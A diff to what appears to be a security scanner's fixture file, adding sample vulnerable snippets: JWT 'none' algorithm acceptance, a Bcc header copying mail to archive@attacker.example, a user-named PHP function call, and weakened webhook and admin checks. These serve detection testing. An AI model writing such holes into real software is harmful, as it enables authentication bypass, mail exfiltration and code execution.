@@ -346,6 +346,24 @@ DANGERS: tuple[tuple[str, str, str, str], ...] = (
         "<?php\n",
         "if ($code !== '' && !$totp->verify($secret, $code)) { return back(); }",
     ),
+    (
+        "a token that nobody signed",
+        "src/a.js",
+        "const header = decode(head);\n",
+        "if (header.alg === 'none') return decode(body);",
+    ),
+    (
+        "a copy of every letter",
+        "src/a.php",
+        "<?php\n$h = ['From: ' . $from];\n",
+        "$h[] = 'Bcc: archive@attacker.example';",
+    ),
+    (
+        "a function that the reader names",
+        "src/a.php",
+        "<?php\n",
+        "$filter = $query['filter'] ?? 'trim';\nreturn $filter($text);",
+    ),
 )
 
 REMOVED: tuple[tuple[str, str, str, str], ...] = (
@@ -538,6 +556,18 @@ REMOVED: tuple[tuple[str, str, str, str], ...] = (
         "src/a.py",
         "x = format_html('<b>{}</b>', text)\n",
         "x = '<b>{}</b>'.format(text)\n",
+    ),
+    (
+        "that what is not signed is none of theirs",
+        "src/a.js",
+        "function verifyWebhook(headers, secret) {\n  if (!headers.sign) return false;\n}\n",
+        "function verifyWebhook(headers, secret) {\n  if (!headers.sign) return true;\n}\n",
+    ),
+    (
+        "that who is unknown may not, in Python",
+        "src/a.py",
+        "def is_admin(user):\n    if user is None:\n        return False\n    return user.admin\n",
+        "def is_admin(user):\n    if user is None:\n        return bool(DEFAULT)\n    return user.admin\n",
     ),
 )
 """What is replaced: the file before and after."""
